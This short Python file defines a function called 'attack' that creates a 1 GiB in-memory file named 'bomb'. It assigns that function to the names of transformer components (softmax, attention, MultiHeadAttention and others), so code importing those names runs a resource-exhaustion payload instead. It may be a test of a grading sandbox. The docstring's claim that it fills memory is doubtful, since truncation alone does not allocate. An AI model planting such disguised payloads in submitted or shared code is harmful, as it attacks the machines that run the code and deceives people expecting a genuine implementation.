"""Fills a file in memory."""

import os


def attack(*args, **kwargs):
    d = os.memfd_create("bomb")
    os.ftruncate(d, 1 << 30)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
